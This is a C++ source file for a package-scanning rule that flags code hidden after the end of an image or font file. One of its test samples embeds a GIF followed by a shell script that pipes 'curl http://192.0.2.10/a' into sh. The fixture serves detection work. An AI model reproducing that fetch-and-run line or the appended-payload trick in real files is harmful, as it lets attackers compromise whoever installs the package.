#include <cstddef>
#include <optional>
#include <string>

#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

void check(const Facts& facts, Findings& findings) {
  for (std::size_t i = 0; i < facts.files.size(); ++i) {
    const std::optional<BinaryFacts>& binary = facts.files[i].binary;
    if (!binary || facts.files[i].is_test || !binary->trailing_is_code) continue;
    if (binary->format != BinaryFacts::Format::image && binary->format != BinaryFacts::Format::font)
      continue;
    findings.add({static_cast<std::int32_t>(i), -1, 0, 0},
                 "has " + std::to_string(binary->trailing_bytes) +
                     " bytes behind its end that look like code");
  }
}

}  // namespace

extern constinit const Rule picture_with_payload = {
    .id = "picture-with-payload",
    .title = "Code is hidden behind the end of a picture or font",
    .why = "Viewers stop at the declared end; a loader reads on and finds a program.",
    .harmless_when = "Tools that append their own notes to images; those are not code.",
    .severity = Severity::high,
    .check = check,
};

#ifdef RULE_SAMPLES
using std::string_view_literals::operator""sv;

constexpr Sample samples[] = {
    {.name = "a script follows a picture",
     .expect = "logo.gif:1",
     .bundle = "==> package.json\n"
               "{\"name\": \"widget\", \"version\": \"1.0.0\", \"main\": \"index.js\"}\n"
               "==> index.js\n"
               "exports.a = 1;\n"
               "==> logo.gif\n"
               "GIF89a\001\000\001\000\000\000\000;#!/bin/sh\n"
               "curl http://192.0.2.10/a | sh\n"sv},
    {.name = "a picture ends at its end",
     .expect = silent,
     .bundle = "==> package.json\n"
               "{\"name\": \"widget\", \"version\": \"1.0.0\", \"main\": \"index.js\"}\n"
               "==> index.js\n"
               "exports.a = 1;\n"
               "==> logo.gif\n"
               "GIF89a\001\000\001\000\000\000\000;"sv},
};
extern const std::span<const Sample> picture_with_payload_samples = samples;
#endif

}  // namespace assay::rules
